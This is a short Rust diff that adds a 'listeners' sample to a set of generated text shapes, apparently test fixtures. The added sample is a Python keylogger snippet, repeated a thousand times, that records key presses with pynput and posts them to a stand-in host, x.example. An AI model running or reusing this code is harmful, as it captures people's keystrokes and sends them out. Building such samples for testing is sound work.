@@ -36,8 +36,15 @@ fn shapes() -> Vec<(&'static str, String)> {
     for n in 0..2_000 {
         let _ = writeln!(different, "exec(c + '{n}')");
     }
+    // Everybody listens to keys, and everything that is heard is sent everywhere.
+    let mut listeners =
+        "import requests\nfrom pynput import keyboard\nb = []\ndef heard(k):\n    b.append(k)\n".to_owned();
+    for _ in 0..1_000 {
+        listeners += "keyboard.Listener(on_press=heard)\nrequests.post('https://x.example', data=b)\n";
+    }
     vec![
         ("writers", writers),
+        ("listeners", listeners),
         ("riddles", riddles),
         ("repeated texts", repeated),
         ("different texts", different),
